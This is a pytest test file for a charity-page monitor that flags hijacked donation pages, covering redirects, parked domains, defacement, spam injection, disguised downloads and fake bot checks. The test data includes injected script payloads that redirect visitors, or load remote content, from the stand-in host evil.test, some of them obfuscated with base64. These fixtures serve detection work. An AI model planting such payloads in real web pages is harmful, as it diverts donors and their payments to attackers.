"""Pages that are no longer the charity's."""

from __future__ import annotations

import pytest

from aidroute.domain.observation import Failure
from aidroute.domain.verdict_names import VerdictClass
from tests.support.judged_pages import (
    NO_BASELINE,
    OTHER_IBAN,
    TEXT,
    bare,
    judge,
    link,
    notice,
    outcome,
    page,
    seen,
)

SWAPPED = ("hijack_suspect", "payment_target_changed")

REDIRECTS = [
    '<meta http-equiv="refresh" content="0; url=https://evil.test/">',
    "<script>location.href='https://evil.test/'</script>",
    "<script>var a='https://ev'; window.location=a+'il.test/'</script>",
    "<script>setTimeout(function(){top.location.replace('//evil.test/x')},3000)</script>",
    "<script>window.onload=function(){location.assign('https://evil.test')}</script>",
    "<script>document.addEventListener('DOMContentLoaded',()=>{location='https://evil.test'})</script>",
    "<script>(function(){self.location=atob('aHR0cHM6Ly9ldmlsLnRlc3Qv')})()</script>",
    "<script>document.write('<meta http-equiv=refresh content=\"0;url=https://evil.test/\">')</script>",
    "<img src=x onerror=\"location='https://evil.test/'\">",
    "<script>location.href='http://203.0.113.9/'</script>",
]


@pytest.mark.parametrize("redirect", REDIRECTS)
def test_a_page_that_sends_its_visitors_to_a_stranger_is_a_danger_even_when_all_else_is_there(redirect: str) -> None:
    assert judge(page(extra=redirect)).verdict_class is VerdictClass.DANGER
    assert judge(bare("", redirect)).verdict_class is VerdictClass.DANGER
    assert judge(seen(bare("", redirect), 404)).verdict_class is VerdictClass.DANGER


QUIET_SCRIPTS = [
    "<script>function go(){location.href='https://evil.test/'}</script>",
    "<script>button.addEventListener('click',function(){location.href='https://shop.example.net/'})</script>",
    "<script>if (top !== self) top.location = self.location;</script>",
    "<script>var share = 'https://www.facebook.com/sharer?u=' + location.href;</script>",
    "<script>// location.href = 'https://evil.test/'\n/* location='https://evil.test' */</script>",
    "<script>if (location.protocol !== 'https:') { location.href = 'https://charity.test/donate'; }</script>",
    "<noscript><meta http-equiv='refresh' content='0;url=/plain'></noscript>",
    "<meta http-equiv='refresh' content='600'>",
]


@pytest.mark.parametrize("script", QUIET_SCRIPTS)
def test_a_script_that_goes_nowhere_by_itself_is_no_redirect(script: str) -> None:
    assert outcome(page(extra=script))[0] == "live"


PICKING = [
    "<script>if (document.referrer) { location.href = 'https://evil.test/'; }</script>",
    "<script>if (/Mobile/.test(navigator.userAgent)) location.replace('https://evil.test/');</script>",
    "<script>document.cookie.includes('seen') || (location.href = 'https://evil.test/')</script>",
    "<script>var l = window.location; l.href = 'https://evil.test/'</script>",
    "<script>location.host = 'evil.test'</script>",
    "<input autofocus onfocus=\"location='https://evil.test/'\">",
    "<svg onload=\"location='https://evil.test/'\"></svg>",
    "<script>document.body.innerHTML = '<iframe src=\"https://evil.test/\"></iframe>'</script>",
]


@pytest.mark.parametrize("script", PICKING)
def test_a_page_that_sends_only_some_visitors_to_a_stranger_is_a_danger_too(script: str) -> None:
    assert judge(page(extra=script)).verdict_class is VerdictClass.DANGER


@pytest.mark.parametrize("status", [200, 403, 404, 503])
def test_a_refresh_header_is_believed_under_any_status(status: int) -> None:
    sent = seen(page() if status == 200 else bare("x", "x"), status, headers={"refresh": "0; url=https://evil.test/"})
    assert judge(sent).verdict_class is VerdictClass.DANGER


FOR_SALE = [
    ("charity.test", "The domain name charity.test is for sale. Make an offer on this domain."),
    ("charity.test is for sale", "Get a price in a day."),
    ("This domain has expired", "If you are the owner, renew it now."),
    ("charity.test", "This web page is parked free."),
    ("Դոմենը վաճառվում է", ""),
    ("Домен charity.test продаётся", ""),
    ("charity.test", "Le domaine charity.test est à vendre."),
    ("Домен на продаж", "Цей домен можна купити."),
    ("Satılık alan adı", ""),
    ("النطاق للبيع", ""),
    ("charity.test", "Diese Domain können Sie kaufen."),
    ("Dominio en venta", ""),
    ("Domena na sprzedaż", ""),
    ("charity.test", "Related searches: Loans, Insurance, Lawyers. Sponsored listings."),
]


@pytest.mark.parametrize(("title", "text"), FOR_SALE)
def test_a_domain_for_sale_is_parked(title: str, text: str) -> None:
    assert outcome(notice(title, text))[0] == "parked"


PARKING = [
    '<script>window.park = "eyJ1dWlkIjoi"</script>',
    '<html data-adblockkey="MFwwDQYJ"><body>x</body></html>',
    '<script src="https://www.google.com/adsense/domains/caf.js"></script>',
    '<a href="https://sedo.com/search/details/?domain=charity.test">charity.test</a>',
    "<script>window.onload=function(){window.location.href='/lander'}</script>",
]


@pytest.mark.parametrize("mark", PARKING)
def test_a_parking_services_page_is_parked_whatever_it_says(mark: str) -> None:
    assert outcome(bare("charity.test", mark))[0] == "parked"


DEFACED = [
    ("Hacked by x", "Greetz to all."),
    ("H4cked By Team", "You have been hacked!"),
    ("HACKED", ""),
    ("Взломано", "Сайт взломан хакерами"),
    ("تم اختراق الموقع", ""),
    ("Kimlik", "Bu site x tarafından hacklendi."),
]


@pytest.mark.parametrize(("title", "text"), DEFACED)
def test_a_defaced_page_is_a_hijack(title: str, text: str) -> None:
    assert outcome(notice(title, text)) == ("hijack_suspect", "defaced")


USURPED = [
    ("SLOT GACOR MAXWIN", "Daftar slot gacor, deposit pulsa, rtp live. " * 4),
    ("Best casino sites 2026", "Online casino, no deposit bonus and free spins. " * 4),
    ("Онлайн казино", "Игровые автоматы и ставки на спорт. " * 4),
    ("Canlı bahis", "Bahis siteleri, casino siteleri, deneme bonusu. " * 4),
    ("Sportwetten und Casino", "Sportwetten Bonus, Spielautomaten, Jackpot. " * 4),
    ("Buy Viagra", "Generic viagra and cialis online without prescription. " * 4),
    ("Escort bayan", "Escort service, sex cam. " * 4),
    ("Payday loans today", "Instant loan and payday loans. " * 4),
    ("Claim your airdrop", "Connect your wallet to claim the free airdrop. " * 4),
    ("Կազինո", "Առցանց կազինո, խաղային ավտոմատներ, բոնուս։ " * 4),
    ("كازينو", "كازينو اون لاين ومراهنات رياضية. " * 4),
]


@pytest.mark.parametrize(("title", "text"), USURPED)
def test_a_usurped_page_is_a_hijack(title: str, text: str) -> None:
    assert outcome(notice(title, text)) == ("hijack_suspect", "usurped")


def test_a_charity_evening_in_a_casino_is_no_hijack() -> None:
    evening = page(
        title="Donate - Charity casino evening", text=f"A poker and roulette evening for the families. {TEXT}"
    )
    assert judge(evening).verdict_class in {VerdictClass.OK, VerdictClass.WARN}
    assert judge(evening, link(approved=NO_BASELINE)).verdict_class in {VerdictClass.OK, VerdictClass.WARN}


def test_hidden_links_to_many_new_hosts_are_injected_spam() -> None:
    links = "".join(f'<a href="https://s{n}.example.net/">offer</a>' for n in range(30))
    assert outcome(page(extra=f'<div style="display:none">{links}</div>')) == ("hijack_suspect", "injected_spam")
    spam = "".join(f'<a href="https://s{n}.example.net/">online casino</a>' for n in range(30))
    assert outcome(page(extra=spam)) == ("hijack_suspect", "injected_spam")


def test_a_long_list_of_partners_is_no_spam() -> None:
    partners = "".join(f'<a href="https://p{n}.example.net/">Partner {n}</a>' for n in range(60))
    assert outcome(page(extra=partners))[0] == "live"


@pytest.mark.parametrize(
    ("content", "headers"),
    [
        (b"MZ\x90\0", {}),
        (b"\x7fELF\x02", {}),
        (b"PK\x03\x04aa", {"disposition": 'attachment; filename="donate.zip"'}),
        (b"#!/bin/sh", {"disposition": "attachment; filename*=UTF-8''donate.sh"}),
        (b"<html>", {"disposition": "attachment; filename=form.hta"}),
        (b"PK\x03\x04", {"disposition": "attachment; filename=bank.apk"}),
    ],
)
def test_a_program_instead_of_a_page_is_a_hijack(content: bytes, headers: dict[str, str]) -> None:
    observation = seen(content, content_type="application/octet-stream", body=headers)
    assert outcome(observation) == ("hijack_suspect", "download")


def test_a_false_bot_check_that_asks_for_commands_is_a_hijack() -> None:
    trick = notice("Verify you are human", "1. Press Windows + R. 2. Press Ctrl + V. 3. Press Enter.")
    assert outcome(trick) == ("hijack_suspect", "fake_check")


SCARES = [
    ("Security warning", "Your computer has been infected. Call the support line at once."),
    ("Congratulations", "You have won a phone. Claim your prize."),
    ("Внимание", "Ваш компьютер заражён."),
]


@pytest.mark.parametrize(("title", "text"), SCARES)
@pytest.mark.parametrize("status", [200, 403, 404])
def test_a_page_that_frightens_or_baits_is_a_hijack_at_any_status(title: str, text: str, status: int) -> None:
    assert outcome(seen(notice(title, text), status)) == ("hijack_suspect", "scare_page")


@pytest.mark.parametrize(
    "spam",
    [
        "澳门赌场 百家乐 老虎机 体育投注 " * 5,
        "토토사이트 카지노사이트 바카라사이트 " * 5,
        "สล็อต บาคาร่า คาสิโน แทงบอล " * 5,
    ],
)
def test_words_are_found_in_scripts_without_spaces(spam: str) -> None:
    assert outcome(notice(spam[:12], spam)) == ("hijack_suspect", "usurped")


@pytest.mark.parametrize("title", ["该域名正在出售", "このドメインは販売中です", "도메인 판매"])
def test_a_domain_for_sale_is_parked_in_scripts_without_spaces(title: str) -> None:
    assert outcome(notice(title))[0] == "parked"


def test_a_page_that_broke_off_may_already_show_a_danger() -> None:
    broken = seen(page(account=OTHER_IBAN), failure=Failure.BROKEN_BODY)
    assert outcome(broken) == SWAPPED
    assert outcome(seen(page(), failure=Failure.BROKEN_BODY)) == ("protocol_error", "broken_body")


@pytest.mark.parametrize(
    "script",
    [
        "eval(atob('bG9jYXRpb249J2h0dHBzOi8vZXZpbC50ZXN0Lyc='))",
        "fetch('https://evil.test/p').then(r=>r.text()).then(t=>document.documentElement.innerHTML=t)",
        "$('body').load('https://evil.test/p')",
    ],
)
def test_a_script_that_lays_a_strangers_page_over_this_one_is_a_danger(script: str) -> None:
    assert judge(page(extra=f"<script>{script}</script>")).verdict_class is VerdictClass.DANGER


@pytest.mark.parametrize(
    "script",
    [
        "eval('var a = 1')",
        "fetch('https://api.example.org/news').then(r=>r.text()).then(t=>{news.innerHTML=t})",
        "$('#news').load('https://example.org/news.html')",
    ],
)
def test_a_script_that_fills_a_corner_is_no_danger(script: str) -> None:
    assert outcome(page(extra=f"<script>{script}</script>"))[0] == "live"


def test_a_base_element_of_a_stranger_moves_every_link() -> None:
    assert outcome(page(head='<base href="https://evil.test/">')) == ("hijack_suspect", "donation_link_changed")
    for own in ("/", "https://www.charity.test/", "https://payment.test/"):
        assert judge(page(head=f'<base href="{own}">')).verdict_class is not VerdictClass.DANGER


@pytest.mark.parametrize(
    "line", ["Hacked by Somebody", "Piraté par Quelqu'un", "Hackeado por Alguien", "Diretas oleh X"]
)
def test_whoever_breaks_in_signs_also_a_page_that_is_left_whole(line: str) -> None:
    assert outcome(page(extra=f"<p>{line}</p>")) == ("hijack_suspect", "defaced")
    assert outcome(page(title=line, heading=line)) == ("hijack_suspect", "defaced")


@pytest.mark.parametrize(
    "line",
    [
        "Last year our website was hacked by strangers; we restored it within a day and lost nothing.",
        "Our hackathon: hacked by twenty teams in one long night",
    ],
)
def test_a_story_about_a_break_in_is_no_signature(line: str) -> None:
    assert outcome(page(extra=f"<p>{line}</p>"))[0] == "live"


HIDDEN = [
    '<div style="position:absolute;left:-9999px">{}</div>',
    '<div style="overflow:hidden;height:0">{}</div>',
    '<div style="text-indent:-99999px">{}</div>',
    '<div style="display:none">{}</div>',
]


@pytest.mark.parametrize("hidden", HIDDEN)
def test_a_few_hidden_links_to_casinos_are_injected_spam(hidden: str) -> None:
    links = "".join(f'<a href="https://c{n}.example.net/">slot gacor</a>' for n in range(4))
    assert outcome(page(extra=hidden.format(links))) == ("hijack_suspect", "injected_spam")
    friends = "".join(f'<a href="https://f{n}.example.net/">our friends</a>' for n in range(4))
    assert outcome(page(extra=hidden.format(friends)))[0] == "live"


@pytest.mark.parametrize("title", ["激安ブランドコピー 通販", "在线娱乐城 真人", "Online casino real money"])
def test_a_strange_title_over_the_approved_page_is_spam(title: str) -> None:
    assert outcome(page(title=title)) == ("hijack_suspect", "spam_title")


@pytest.mark.parametrize(
    "title",
    [
        "Tên miền này đang được rao bán",
        "Il dominio è parcheggiato",
        "Deze domeinnaam is gereserveerd",
        "Domain ini dijual",
        "ドメインパーキング",
        "도메인 파킹",
        "خرید دامنه",
        "यह डोमेन बिक्री के लिए",
        "Αυτό το όνομα χώρου πωλείται",
    ],
)
def test_a_domain_for_sale_is_parked_in_further_languages(title: str) -> None:
    assert outcome(notice(title))[0] == "parked"


@pytest.mark.parametrize("title", ["Situs ini telah diretas", "网站已被入侵", "این سایت هک شد", "Website đã bị hack"])
def test_a_defaced_page_is_a_hijack_in_further_languages(title: str) -> None:
    assert outcome(notice(title)) == ("hijack_suspect", "defaced")
